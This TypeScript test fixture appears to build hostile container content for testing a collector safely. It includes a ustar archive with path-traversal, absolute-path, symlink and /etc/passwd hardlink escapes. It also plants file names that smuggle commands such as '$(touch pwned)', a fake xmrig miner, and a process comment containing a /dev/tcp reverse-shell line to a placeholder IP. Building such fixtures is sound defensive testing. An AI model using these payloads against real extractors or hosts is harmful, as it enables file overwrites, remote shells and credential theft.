/**
 * Hostile container content for collector tests: files, names, links, a lying `tar`, endless
 * output and planted processes. Everything here is data for the sandbox file map; nothing runs
 * on the host.
 */

import type { SandboxEntry, SandboxPath } from './rootfs.js';
import type { SandboxProcessSpec } from './runtime.js';

/** One entry of a {@link craftedTar} archive. */
export interface CraftedTarEntry {
  /** Name written verbatim in the header (may be absolute or contain `..`). */
  name: string;
  /** `file` (default), `dir`, `symlink`, `hardlink`. */
  type?: 'file' | 'dir' | 'symlink' | 'hardlink' | undefined;
  /** File content. */
  content?: string | undefined;
  /** Link target for `symlink` / `hardlink`. */
  linkname?: string | undefined;
  /** Size to write in the header instead of the real one (a lying header). */
  claimedSize?: number | undefined;
}

function octal(n: number, width: number): string {
  return `${n.toString(8).padStart(width - 1, '0')}\0`;
}

function header(e: CraftedTarEntry, size: number): Buffer {
  const h = Buffer.alloc(512);
  const name = Buffer.from(e.name);
  if (name.length > 100) {
    const cut = e.name.lastIndexOf('/', 155);
    h.write(e.name.slice(0, cut), 345, 155);
    h.write(e.name.slice(cut + 1), 0, 100);
  } else {
    name.copy(h, 0);
  }
  const type = e.type ?? 'file';
  h.write(octal(type === 'dir' ? 0o755 : type === 'symlink' ? 0o777 : 0o644, 8), 100);
  h.write(octal(0, 8), 108);
  h.write(octal(0, 8), 116);
  h.write(octal(size, 12), 124);
  h.write(octal(1_700_000_000, 12), 136);
  h.write(' '.repeat(8), 148);
  h.write({ file: '0', dir: '5', symlink: '2', hardlink: '1' }[type], 156);
  if (e.linkname) h.write(e.linkname, 157, 100);
  h.write('ustar\0', 257);
  h.write('00', 263);
  h.write('root', 265);
  h.write('root', 297);
  let sum = 0;
  for (const b of h) sum += b;
  h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return h;
}

/**
 * Builds a ustar archive exactly as described, including entries a safe extractor must refuse.
 * An entry with `claimedSize` larger than its content ends the archive there (truncated, no
 * end-of-archive blocks), as a header lying about its size would.
 */
export function craftedTar(entries: readonly CraftedTarEntry[]): Buffer {
  const parts: Buffer[] = [];
  for (const e of entries) {
    const body = Buffer.from(e.content ?? '');
    const size = e.type === undefined || e.type === 'file' ? body.length : 0;
    parts.push(header(e, e.claimedSize ?? size));
    if (size > 0) {
      parts.push(body, Buffer.alloc((512 - (size % 512)) % 512));
    }
    if (e.claimedSize !== undefined && e.claimedSize > size) return Buffer.concat(parts);
  }
  parts.push(Buffer.alloc(1024));
  return Buffer.concat(parts);
}

/** The archive the hostile `tar` emits for any arguments: every known extraction attack. */
export function hostileTarEntries(prefix = 'app'): CraftedTarEntry[] {
  return [
    { name: `${prefix}/`, type: 'dir' },
    { name: `${prefix}/ok.txt`, content: 'benign\n' },
    { name: `${prefix}/../../../../../../tmp/eksf-escape-dotdot.txt`, content: 'escaped via ..\n' },
    { name: '/tmp/eksf-escape-absolute.txt', content: 'escaped via absolute name\n' },
    { name: `${prefix}/link-out`, type: 'symlink', linkname: '/tmp' },
    { name: `${prefix}/link-out/eksf-escape-through-symlink.txt`, content: 'written through a symlink\n' },
    { name: `${prefix}/up`, type: 'symlink', linkname: '../../../../../..' },
    { name: `${prefix}/hard`, type: 'hardlink', linkname: '/etc/passwd' },
    { name: `${prefix}/liar.bin`, content: 'x'.repeat(600), claimedSize: 1024 * 1024 * 1024 },
  ];
}

/** Paths used by {@link hostileFiles}. */
export const HOSTILE_PATHS = {
  /** Symlink to `/dev/zero` where a log should be (endless zeros). */
  zeroLog: '/var/log/app.log',
  /** FIFO where a log should be (a read blocks forever). */
  fifoLog: '/var/log/access.log',
  /** 10 GiB sparse file. */
  sparse: '/var/lib/data/disk.img',
  /** Directory holding the awkward names. */
  names: '/srv/names',
  /** Directory with symlink loops (`a`↔`b`, and `dir/up` → `..` style loop). */
  loops: '/srv/loop',
  /** Start of the > 4 KiB deep path. */
  deep: '/srv/deep',
  /** The lying `tar` (first in the default PATH). */
  tar: '/usr/local/bin/tar',
  /** The archive it emits. */
  tarArchive: '/usr/local/share/.eksf/crafted.tar',
  /** A command whose output never ends. */
  endless: '/usr/local/bin/endless',
  /** A log that keeps growing while the container runs. */
  growing: '/var/log/growing.log',
} as const;

/** The awkward file names planted under {@link HOSTILE_PATHS.names} (as bytes). */
export function hostileNames(): Buffer[] {
  return [
    Buffer.from('new\nline.txt'),
    Buffer.from(`quote'single.txt`),
    Buffer.from('quote"double.txt'),
    Buffer.from('$(touch pwned).txt'),
    Buffer.from('`id`.txt'),
    Buffer.from('-rf'),
    Buffer.from('--help'),
    Buffer.from(' leading space'),
    Buffer.from('*'),
    Buffer.from('tab\there'),
    Buffer.concat([Buffer.from('bad-'), Buffer.from([0xff, 0xfe, 0x80]), Buffer.from('.txt')]),
    Buffer.from('x'.repeat(255)),
  ];
}

/** Components of the deep path: 16 × 255 bytes, so the full path is over 4 KiB (PATH_MAX). */
export function deepPathComponents(): string[] {
  return Array.from({ length: 16 }, (_, i) => `${String(i).padStart(2, '0')}${'d'.repeat(253)}`);
}

/** Options of {@link hostileFiles}. */
export interface HostileFilesOptions {
  /** Size of the sparse file (default 10 GiB). */
  sparseSize?: number | undefined;
  /** Prefix of the crafted archive's entries (default `app`). */
  tarPrefix?: string | undefined;
  /** Include the growing log (default true). */
  growing?: boolean | undefined;
}

/**
 * A file map of hostile content (see {@link HOSTILE_PATHS}): a log symlinked to `/dev/zero`, a
 * FIFO log, a 10 GiB sparse file, names with newlines/quotes/`$(…)`/leading dashes/non-UTF-8
 * bytes/255 bytes, a path over 4 KiB, symlink loops, a `tar` script emitting {@link craftedTar},
 * an `endless` command and a growing log. The scripts need a shell and `cat`/`yes`: use it with
 * the `busybox` preset.
 *
 * @example
 * await cluster.addPod({ namespace: 'x', name: 'evil', containers: [{ name: 'app', image: 'busybox',
 *   runtime: 'sandbox', options: { files: hostileFiles(), processes: hostileProcesses() } }] });
 */
export function hostileFiles(opts: HostileFilesOptions = {}): (SandboxEntry & { path: SandboxPath })[] {
  const out: (SandboxEntry & { path: SandboxPath })[] = [
    { path: HOSTILE_PATHS.zeroLog, type: 'symlink', target: '/dev/zero' },
    { path: HOSTILE_PATHS.fifoLog, type: 'fifo' },
    { path: HOSTILE_PATHS.sparse, type: 'sparse', size: opts.sparseSize ?? 10 * 1024 ** 3 },
  ];
  for (const n of hostileNames()) {
    out.push({ path: Buffer.concat([Buffer.from(`${HOSTILE_PATHS.names}/`), n]), content: 'hostile name\n' });
  }
  out.push(
    { path: `${HOSTILE_PATHS.loops}/a`, type: 'symlink', target: 'b' },
    { path: `${HOSTILE_PATHS.loops}/b`, type: 'symlink', target: 'a' },
    { path: `${HOSTILE_PATHS.loops}/dir/sub/up`, type: 'symlink', target: '..' },
    { path: `${HOSTILE_PATHS.loops}/dir/root`, type: 'symlink', target: '/' },
    { path: `${HOSTILE_PATHS.deep}/${deepPathComponents().join('/')}/leaf.txt`, content: 'deep\n' },
    { path: HOSTILE_PATHS.tarArchive, content: craftedTar(hostileTarEntries(opts.tarPrefix)) },
    {
      path: HOSTILE_PATHS.tar,
      content: `#!/bin/sh\n# ignores its arguments and stdin; emits a crafted archive\nexec cat ${HOSTILE_PATHS.tarArchive}\n`,
      mode: 0o755,
    },
    { path: HOSTILE_PATHS.endless, content: '#!/bin/sh\nexec yes "endless output"\n', mode: 0o755 },
  );
  if (opts.growing ?? true) out.push({ path: HOSTILE_PATHS.growing, type: 'growing', content: 'start\n' });
  return out;
}

/**
 * Planted processes: a "miner" (command line of a cryptominer, binary deleted after start), a
 * "reverse shell" (a busybox shell from a deleted binary) and a process with an `LD_PRELOAD`
 * and an AWS key in its environment. Works with every preset.
 */
export function hostileProcesses(): SandboxProcessSpec[] {
  return [
    {
      argv: [
        '/tmp/.X11-unix/xmrig',
        '--url',
        'stratum+tcp://pool.example.invalid:3333',
        '--donate-level',
        '1',
      ],
      binary: 'sleeper',
      deleteAfterStart: true,
    },
    {
      argv: [
        '/var/tmp/.rs/sh',
        '-c',
        'while :; do sleep 3600; done # sh -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      ],
      binary: 'busybox',
      deleteAfterStart: true,
    },
    {
      argv: ['/tmp/.cache/kworker', '-s'],
      binary: 'sleeper',
      env: {
        PATH: '/usr/bin:/bin',
        LD_PRELOAD: '/usr/lib/libprocesshider.so',
        AWS_SECRET_ACCESS_KEY: 'EXAMPLEKEYwJalrXUtnFEMI/K7MDENG/bPxRfiCY',
      },
    },
  ];
}
